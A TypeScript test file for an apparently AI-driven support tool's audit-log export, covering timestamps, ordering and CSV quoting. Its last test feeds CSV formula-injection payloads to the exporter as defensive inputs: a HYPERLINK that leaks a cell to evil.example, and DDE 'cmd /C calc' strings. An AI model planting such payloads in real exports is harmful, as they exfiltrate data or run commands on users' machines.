import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { attackEach } from '../security/attack';
import { auditCsv } from '../../src/ui/audit-csv';
import { isoLocal, newestFirst, withPrepared } from '../../src/ui/audit-entries';
import { auditFileName, auditJson } from '../../src/ui/audit-export';
import type { AuditEntry } from '../../src/background/storage/audit-log';

const entry = (seq: number, patch: Partial<AuditEntry> = {}): AuditEntry => ({
  seq,
  at: 1_700_000_000_000 + seq,
  kind: 'prepare',
  tool: 'reply.send',
  site: 'http://127.0.0.1:4517',
  ticket: '#1',
  digest: 'ab'.repeat(32),
  confirmationId: `c${seq}`,
  prev: '0'.repeat(64),
  hash: '1'.repeat(64),
  ...patch,
});

/** ISO 8601 with the offset: the same instant, in the agent's local wall time. */
const ISO_LOCAL = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}[+-]\d\d:\d\d$/;

describe('audit export', () => {
  it('names the file by the local date', () => {
    expect(auditFileName(new Date(2025, 0, 9, 23, 59))).toBe('deskmate-audit-2025-01-09.json');
    expect(auditFileName(new Date(2025, 0, 9, 23, 59), 'csv')).toBe('deskmate-audit-2025-01-09.csv');
  });

  it('writes the local time in ISO 8601 with its offset, for the same instant', () => {
    const at = 1_796_104_311_224;
    const iso = isoLocal(at);
    expect(iso).toMatch(ISO_LOCAL);
    expect(Date.parse(iso)).toBe(at);
    expect(iso.slice(11, 19)).toBe(new Date(at).toTimeString().slice(0, 8));
  });

  it('writes the offset of the agent’s zone, half hours and the minus side included', () => {
    const zone = process.env.TZ;
    try {
      process.env.TZ = 'America/St_Johns';
      expect(isoLocal(Date.UTC(2026, 0, 15, 12, 0, 0, 5))).toBe('2026-01-15T08:30:00.005-03:30');
      process.env.TZ = 'Asia/Kolkata';
      expect(isoLocal(Date.UTC(2026, 0, 15, 12, 0, 0, 5))).toBe('2026-01-15T17:30:00.005+05:30');
    } finally {
      if (zone === undefined) delete process.env.TZ;
      else process.env.TZ = zone;
    }
  });

  it('holds every entry with every stored field, in the order they were written, led by its local time', () => {
    const entries = [entry(3, { kind: 'sent' }), entry(1), entry(2, { kind: 'confirm', detail: 'a "quoted" detail\nline 2' })];
    const text = auditJson(entries);
    const rows = JSON.parse(text) as (AuditEntry & { time: string; timeZone: string })[];
    expect(rows.map(({ time: _t, timeZone: _z, ...stored }) => stored)).toEqual([entries[1], entries[2], entries[0]]);
    expect(rows.map((r) => Date.parse(r.time))).toEqual([entries[1]!.at, entries[2]!.at, entries[0]!.at]);
    expect(rows[0]!.time).toMatch(ISO_LOCAL);
    expect(Object.keys(rows[0]!)[0]).toBe('time');
    expect(text.endsWith('\n')).toBe(true);
  });

  it('exports an empty log as an empty list', () => {
    expect(JSON.parse(auditJson([]))).toEqual([]);
  });

  it('lists newest first without changing the input', () => {
    const entries = [entry(1), entry(2), entry(3)];
    expect(newestFirst(entries).map((e) => e.seq)).toEqual([3, 2, 1]);
    expect(entries.map((e) => e.seq)).toEqual([1, 2, 3]);
  });

  it('gives a confirm and a send the recipient and text of their prepare', () => {
    const prepared = entry(1, { confirmationId: 'x', recipient: 'ann@example.com', body: 'Hello Ann' });
    const joined = withPrepared([prepared, entry(2, { kind: 'confirm', confirmationId: 'x' }), entry(3, { kind: 'sent', confirmationId: 'y' })]);
    expect(joined[1]).toMatchObject({ recipient: 'ann@example.com', body: 'Hello Ann' });
    expect(joined[2]!.body).toBeUndefined();
  });
});

describe('audit CSV', () => {
  it('has one row per entry, oldest first, with the text whole and quoted where needed', () => {
    const body = 'Hi Ann,\n\nthe refund, "as promised", is on its way.';
    const csv = auditCsv([entry(2, { kind: 'sent', confirmationId: 'x' }), entry(1, { confirmationId: 'x', recipient: 'Ann <ann@example.com>', body })], (e) => `did ${e.kind}`);
    const parsed = Papa.parse<Record<string, string>>(csv.trim(), { header: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(['time', 'what_happened', 'kind', 'action', 'site', 'ticket', 'recipient', 'text', 'detail', 'confirmation', 'digest', 'seq']);
    expect(parsed.data.map((r) => [r.kind, r.what_happened, r.recipient, r.text, r.seq])).toEqual([
      ['prepare', 'did prepare', 'Ann <ann@example.com>', body, '1'],
      ['sent', 'did sent', 'Ann <ann@example.com>', body, '2'],
    ]);
    expect(parsed.data[0]!.time).toMatch(ISO_LOCAL);
    expect(csv).toContain('\r\n');
  });

  attackEach(
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    (text) => `a reply text the exported CSV would hand a spreadsheet as a formula: ${text.slice(0, 12)}`,
    (text) => {
      const csv = auditCsv([entry(1, { body: text, detail: text, recipient: text })]);
      const row = Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data[0]!;
      for (const cell of [row.text!, row.detail!, row.recipient!]) {
        expect(cell).not.toMatch(/^[=+\-@]/);
        expect(cell).toContain(text);
      }
    },
  );
});
